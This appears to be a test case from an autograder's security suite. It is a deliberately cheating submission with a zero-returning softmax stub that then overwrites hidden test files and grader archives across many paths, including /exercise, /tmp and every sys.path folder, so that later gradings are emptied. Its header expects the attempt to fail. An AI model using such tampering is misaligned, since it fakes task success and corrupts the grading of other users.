"""
attack: pc-overwrite-tests
class: peer-cheats
tries: overwrites the hidden tests, the exercise and the archive that later gradings use
must: score 0, verdict wrong|error, worker alive, next submission graded normally
"""
import torch


def softmax(x, dim):
    return torch.zeros_like(x)


class TinyCNN(torch.nn.Module):
    def forward(self, x):
        return x.flatten(1)[:, :9]


import io
import os
import sys
import zipfile

EMPTY = "test = {'name': 'q1', 'points': 10, 'suites': []}\ndef test_softmax_matches(student): pass\n"
archive = io.BytesIO()
with zipfile.ZipFile(archive, "w") as zipped:
    zipped.writestr("test_hidden.py", EMPTY)
places = ["test_hidden.py", "tests/q1.py", "../test_hidden.py", "/exercise/test_hidden.py", "autograder.zip", "../autograder.zip", "/tmp/autograder.zip"]
places += [os.path.join(folder, "test_hidden.py") for folder in sys.path]
for place in places:
    try:
        os.makedirs(os.path.dirname(place) or ".", exist_ok=True)
        with open(place, "wb") as file:
            file.write(archive.getvalue() if place.endswith("zip") else EMPTY.encode())
    except OSError:
        pass
